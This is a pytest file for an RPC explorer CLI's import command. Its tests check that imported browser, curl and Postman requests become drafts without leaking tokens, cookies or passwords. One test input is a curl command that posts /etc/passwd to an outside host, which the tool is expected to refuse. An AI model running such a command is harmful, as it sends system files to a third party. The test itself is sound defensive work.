"""``import``: calls become drafts, credentials are stored if confirmed."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import click
import pytest

from rpcexplorer.cli.world import World
from tests.fakes.shell import Ran, Shell

FILES = Path(__file__).parents[1] / "importing" / "files"
PROFILE = '[profile.staging]\nurl = "https://shop.example.com"\npath = "/rpc"\nauth = { kind = "bearer" }\n'
SECRETS = ("page-token-4711", "cookie-session-2342", "browser-bearer-0815")
CALL = '{"jsonrpc": "2.0", "id": 1, "method": "user.get", "params": {"n": 1.10}}'


@pytest.fixture
def staging(shell: Shell) -> Shell:
    shell.sessions(PROFILE)
    return shell


def take_in(shell: Shell, text: str | bytes, *more: str) -> Ran:
    return shell.run("import", "-", *more, stdin=text.encode() if isinstance(text, str) else text)


def draft(shell: Shell, method: str) -> str:
    """Return the text of a method's draft file."""
    found = {name: text for name, text in shell.files().items() if name.endswith(".draft") and "replaced" not in name}
    (text,) = [text for text in found.values() if f" {method}\n" in text]
    return text.partition("\n")[2]


def replaced(shell: Shell) -> list[str]:
    """Return the replaced drafts of the only method that has some."""
    (text,) = [text for name, text in shell.files().items() if "replaced" in name and name.endswith(".draft")]
    found: list[str] = json.loads(text.partition("\n")[2])
    return found


def test_har_becomes_drafts_and_lists_skipped_requests(staging: Shell) -> None:
    ran = staging.run("import", str(FILES / "firefox.har"))
    assert ran.code == 0
    assert [line.split()[0] for line in ran.text.splitlines()] == ["user.get", "note.add", "ping", "log.write"]
    for message in (
        "requests 1, 3 skipped: GET without a body",
        "request 6 skipped: the body is not a JSON object",
        "staging sends calls to https://shop.example.com/rpc, but the imported calls were sent to http://127.0.0.1:8744/rpc",
        "discarded credentials that staging cannot use: ?token= in the URL, Authorization: Bearer, cookie sessionid",
        "imported 4 calls into the drafts of staging",
    ):
        assert message in ran.err
    assert draft(staging, "user.get") == '{"id":12345678901234567890,"price":1.10,"price":1.100}'
    everything = ran.text + ran.err + "".join(staging.files().values())
    assert not [secret for secret in SECRETS if secret in everything]


def test_credentials_without_terminal_are_dropped_with_a_command(staging: Shell) -> None:
    ran = staging.run("import", str(FILES / "chromium.bash.txt"))
    assert ran.code == 0
    assert "not stored: token. To store credentials, run:\n  rpcexplorer profiles secret staging token\n" in ran.err
    assert not [secret for secret in SECRETS if secret in "".join(staging.files().values())]


@pytest.mark.parametrize("yes", [True, False])
def test_confirmed_token_is_stored_for_the_profile(
    staging: Shell, monkeypatch: pytest.MonkeyPatch, *, yes: bool
) -> None:
    questions: list[str] = []
    monkeypatch.setattr(World, "asks", True)

    def answer(question: str, **_: object) -> bool:
        questions.append(question)
        return yes

    monkeypatch.setattr(click, "confirm", answer)
    ran = staging.run("import", str(FILES / "chromium.bash.txt"))
    assert questions == ["Store the imported token for profile staging (https://shop.example.com/rpc)?"]
    held = {Path(name).name for name, text in staging.files().items() if "browser-bearer-0815" in text}
    assert held == ({"secrets.toml"} if yes else set())
    assert "browser-bearer-0815" not in ran.text + ran.err


def test_earlier_draft_can_be_restored(staging: Shell) -> None:
    take_in(staging, CALL)
    ran = take_in(staging, CALL.replace("1.10", "2.20"))
    assert "replaced drafts, which you can restore on screen: user.get" in ran.err
    assert (draft(staging, "user.get"), replaced(staging)) == ('{"n": 2.20}', ['{"n": 1.10}'])


def test_many_calls_of_a_method_keep_drafts(staging: Shell) -> None:
    take_in(staging, CALL)
    lines = "\n".join(CALL.replace("1.10", str(number)) for number in range(30))
    ran = take_in(staging, lines)
    assert "imported 10 calls into the drafts of staging" in ran.err
    assert "not imported: 20 calls. Too many calls have the same method." in ran.err
    assert replaced(staging)[0] == '{"n": 1.10}'


def test_dry_run_prints_json_and_saves_nothing(staging: Shell) -> None:
    ran = staging.run("import", str(FILES / "chromium.bash.txt"), "--json", "--dry-run")
    found = json.loads(ran.text)
    assert (found["form"], found["calls"][0]["method"]) == ("curl", "note.add")
    assert '"n": 1e400' in ran.text
    assert {"field": "session", "place": "cookie sessionid"} in found["calls"][0]["credentials"]
    assert not [name for name in staging.files() if name.endswith(".draft")]


def test_password_in_params_is_never_printed(staging: Shell) -> None:
    ran = take_in(
        staging, '{"id": 1, "method": "login", "params": {"user": "ada", "password": "pass-word-1"}}', "--json"
    )
    assert "pass-word-1" not in ran.text + ran.err
    assert take_in(staging, CALL.replace('{"n": 1.10}', '{"password": "pass-word-1"}')).text.count("pass-word-1") == 0


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "Nothing was imported. The text is empty."),
        ("curl -d @/etc/passwd http://a.example", "rpcexplorer does not read the body from the file /etc/passwd"),
        ('{"result": 1}', "request 1 skipped: the body is a response"),
    ],
)
def test_file_without_calls_exits_2(staging: Shell, text: str, message: str) -> None:
    ran = take_in(staging, text)
    assert (ran.code, ran.out) == (2, b"")
    assert message in ran.err


def test_drafts_need_a_named_profile(shell: Shell) -> None:
    ran = shell.run("--url", "http://a.example/", "import", "-", stdin=CALL.encode())
    assert ran.code == 2
    assert "Name one with -p" in ran.err


def test_saved_calls_contain_no_credential(shell: Shell) -> None:
    team = shell.sessions('version = 1\n\n[profile.staging]\nurl = "https://shop.example.com"\n')
    ran = shell.run("import", str(FILES / "shop.postman_collection.json"), "--save", "sessions.toml")
    assert ran.code == 0
    assert "saved 5 calls in" in ran.err
    assert "discarded credentials: Authorization: Bearer, Authorization: Basic, ?api_key= in the URL" in ran.err
    text = team.read_text()
    assert '[call."get one"]' in text
    assert "12345678901234567890" in text
    assert not [
        secret for secret in ("collection-bearer", "postman-password", "query-key", "header-key") if secret in text
    ]
    sent = shell.run("call", "@list with a variable", "--set", "tenant=a", "--set", "page=2", "--dry-run")
    assert '"params":{"tenant":"a","page":2}}' in sent.text
    again = shell.run("import", str(FILES / "shop.postman_collection.json"), "--save", "sessions.toml")
    assert again.code == 2
    assert team.read_text() == text


def test_call_with_credential_in_params_is_not_saved(shell: Shell) -> None:
    team = shell.sessions("version = 1\n")
    text = "\n".join([CALL, CALL.replace("1.10", '1, "password": "pass-word-1"')])
    ran = take_in(shell, text, "--save", "sessions.toml")
    assert ran.code == 0
    assert "user.get 2 was not saved: its params contain a credential" in ran.err
    assert "pass-word-1" not in team.read_text() + ran.text + ran.err


def test_printed_command_sends_the_saved_call(shell: Shell) -> None:
    def printed_command(*arguments: str, text: str = CALL) -> str:
        ran = shell.run(*arguments, stdin=text.encode())
        assert ran.code == 0
        return ran.err.splitlines()[-1].strip()

    save = ("import", "-", "--save", "other.toml")
    assert printed_command(*save) == "rpcexplorer --sessions other.toml call @user.get"
    team = shell.sessions(PROFILE)
    with (shell.folder / "other.toml").open("a") as file:
        file.write(PROFILE.replace("staging", "elsewhere"))
    ways = [
        printed_command(*save, text=CALL.replace("user.get", "a.b")),
        printed_command("--sessions", "sessions.toml", *save, text=CALL.replace("user.get", "c.d")),
        printed_command(
            "--sessions", "other.toml", *save, text=CALL.replace('"id": 1, ', "").replace("user.get", "x y")
        ),
        printed_command("-p", "staging", "import", "-", "--save", str(team)),
    ]
    assert ways == [
        "rpcexplorer --sessions other.toml call @a.b",
        "rpcexplorer --sessions other.toml call @c.d",
        "rpcexplorer --sessions other.toml notify '@x y'",
        "rpcexplorer call @user.get -p staging",
    ]
    for way in ways:
        ran = shell.run(*shlex.split(way)[1:], "--dry-run")
        assert (ran.code, ran.err) == (0, "")
        assert ('"id"' in ran.text) == (" notify " not in way)


def test_notification_is_reported_once(staging: Shell) -> None:
    ran = take_in(
        staging, "\n".join([CALL, CALL.replace('"id": 1, ', ""), CALL.replace('"id": 1, ', "").replace("1.10", "2")])
    )
    assert ran.err.count("notify") == 1
    assert "Notifications are imported as calls with an id: user.get. To send a notification, run:\n" in ran.err
    assert "notify" not in take_in(staging, CALL).err
